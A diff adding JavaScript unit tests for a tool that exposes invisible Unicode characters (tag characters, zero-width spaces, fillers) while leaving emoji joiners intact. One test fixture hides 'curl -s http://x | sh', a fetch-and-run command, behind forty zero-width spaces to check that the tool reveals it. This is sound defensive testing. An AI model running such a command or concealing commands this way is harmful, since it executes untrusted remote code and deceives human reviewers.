@@ -101,4 +101,21 @@ test('one definition of the dangerous invisible characters: the scanner and show
     assert.equal(showInvisible(ch) !== ch, isInvisible(c), `U+${c.toString(16)}`);
   }
   assert.equal(showInvisible('a\u200eb\u202ec'), 'a\ufffdb\ufffdc');
+  // Tag characters (astral: a surrogate pair each), every one of them and nothing beside them.
+  for (let c = 0xe0000 - 2; c <= 0xe007f + 2; c++) {
+    const ch = String.fromCodePoint(c);
+    const tag = c >= 0xe0000 && c <= 0xe007f;
+    assert.equal(showInvisible(ch), tag ? '\ufffd' : ch, `U+${c.toString(16)}`);
+    assert.equal(visibleText(`a${ch}b`), tag ? 'a\ufffdb' : `a${ch}b`, `U+${c.toString(16)}`);
+  }
+});
+
+test('characters that show nothing are shown, so no text hides behind them; joiners in emoji stay', () => {
+  const hidden = `ls -la${'\u200b'.repeat(40)}; curl -s http://x | sh`;
+  assert.equal(visibleText(hidden), `ls -la${'\ufffd'.repeat(40)}; curl -s http://x | sh`);
+  for (const c of ['\u00ad', '\u2060', '\u2064', '\u3164', '\ufeff', '\u180e', '\u115f', '\uffa0']) {
+    assert.equal(visibleText(`a${c}b`), 'a\ufffdb', `U+${c.charCodeAt(0).toString(16)}`);
+  }
+  // Emoji: a ZWJ sequence and a presentation selector are text as they are.
+  for (const emoji of ['\u{1F468}\u200d\u{1F4BB}', '\u2764\ufe0f', 'e\u0301']) assert.equal(visibleText(emoji), emoji);
 });
